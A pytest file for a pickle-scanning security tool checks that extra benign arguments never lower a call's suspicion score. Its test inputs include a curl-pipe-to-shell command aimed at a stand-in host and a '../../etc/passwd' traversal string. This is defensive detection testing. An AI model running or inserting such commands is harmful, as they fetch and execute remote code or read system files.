"""Adding items to a call's arguments never lowers its score (docs/features.md says where and why a state's may)."""

from __future__ import annotations

import random
from typing import Any

import pytest

from picklegate import scan_bytes
from picklegate.judging import feature_table, features
from picklegate.judging.arguments import arguments_of, states_of
from picklegate.judging.classifier import classifier
from picklegate.judging.feature_table import FALLING, FEATURES, RISING, TABLE, words
from picklegate.judging.vocabulary import vocabulary
from picklegate.pickles import trace
from samples.hostile import HOSTILE
from support.builders import COMMAND, EXPRESSION, SOURCE, call, written

_WORDS = ("adam", "layer1", "sgd", "a sentence about nothing", "x" * 300, "résumé", "", "0", "v1.2.3", "name")


def _dull(draw: random.Random) -> Any:
    kinds: list[Any] = [
        draw.choice(_WORDS),
        draw.randrange(1000),
        None,
        draw.random(),
        draw.randbytes(draw.randrange(64)),
        [draw.choice(_WORDS) for _ in range(draw.randrange(200))],
        {draw.choice(_WORDS): draw.choice(_WORDS) for _ in range(3)},
        call("collections", "OrderedDict"),
        call("datetime", "timedelta", 1, 2, 3),
    ]
    return draw.choice(kinds)


def _margin(tree: Any) -> float:
    found = trace(written(tree))
    event = found.events[-1]
    assert event.kind == "call"
    vector = features.vector(event, arguments_of(event, states_of(found.events)), vocabulary())
    return classifier().margin(vector)


_TELLING = (COMMAND, SOURCE, EXPRESSION, "http://example.invalid/x", "../../etc/passwd", b"\x80\x04N.", "touch x")


@pytest.mark.parametrize("name", ["run_it", "__load__", "_start", "Model", "Popen9"])
@pytest.mark.parametrize("seed", range(12))
def test_more_arguments_never_lower_a_score(name: str, seed: int) -> None:
    """Whatever is handed over beside the telling argument: behind it, in a list, or as many texts."""
    draw = random.Random(f"{name} {seed}")
    args: list[Any] = [draw.choice(_TELLING)]
    before = _margin(call("package.tools", name, *args))
    for _ in range(4):
        args.insert(draw.randrange(len(args) + 1), _dull(draw))
        after = _margin(call("package.tools", name, *args))
        assert after >= before - 1e-6
        before = after


@pytest.mark.parametrize("telling", [SOURCE, EXPRESSION, f"curl http://example.invalid | sh; {COMMAND}"])
@pytest.mark.parametrize("count", [1, 20, 150])
def test_dull_items_beside_a_telling_one_change_nothing(telling: str, count: int) -> None:
    """A telling text counts in a list or a dict of any length, before or behind the dull ones."""
    dull = [f"word{number}" for number in range(count)]
    bare = _margin(call("package.tools", "Runner", [telling]))
    for items in ([telling, *dull], [*dull, telling], {**dict.fromkeys(dull, "v"), "code": telling}):
        assert _margin(call("package.tools", "Runner", items)) >= bare - 1e-6


def test_a_name_or_bytes_do_not_lower_the_score_of_a_stranger() -> None:
    """A special name, random bytes and a long text never count for a call."""
    bare = _margin(call("runtime.module", "start", "name"))
    noise = random.Random(1).randbytes(4096)
    assert _margin(call("runtime.module", "__start__", "name")) >= bare - 1e-6
    for extra in (noise, "x" * 10_000, noise.hex()):
        assert _margin(call("runtime.module", "start", "name", extra)) >= bare - 1e-6


def test_the_model_keeps_to_the_directions() -> None:
    """Along each feature the score moves one way only, for random vectors."""
    draw = random.Random(3)
    for _ in range(200):
        vector = [float(draw.choice((0, 0, 0, 1, 2, 5, 20))) for _ in FEATURES]
        place = draw.randrange(len(FEATURES))
        more = [*vector[:place], vector[place] + draw.choice((1, 3, 10)), *vector[place + 1 :]]
        change = classifier().margin(more) - classifier().margin(vector)
        if FEATURES[place] in RISING:
            assert change >= -1e-6
        elif FEATURES[place] in FALLING:
            assert change <= 1e-6


def test_every_feature_of_arguments_only_rises() -> None:
    """What a call is handed has no feature that could lower its score."""
    groups = (feature_table.TEXT_FEATURES, feature_table.BYTES_FEATURES, feature_table.OBJECT_FEATURES)
    assert {feature.direction for group in groups for feature in group} == {"+"}


@pytest.mark.parametrize("sample", HOSTILE[::7], ids=lambda sample: sample.id)
def test_a_label_never_says_the_opposite_of_its_sign(sample: Any) -> None:
    """What raised a score is there, or is something good of which there is none or little."""
    for reason in scan_bytes(sample.data).reasons:
        for name, weight in reason.contributions:
            assert weight > 0
            if TABLE[name].direction == "+":
                assert words(name, 0) not in reason.message
            elif TABLE[name].direction == "-":
                told = [text for text in (TABLE[name].there, TABLE[name].zero) if text in reason.message]
                assert any(text.startswith(_OF_LITTLE) for text in told)


_OF_LITTLE = ("no ", "few ", "it looks like no", "it constructs no", "the index knows no")
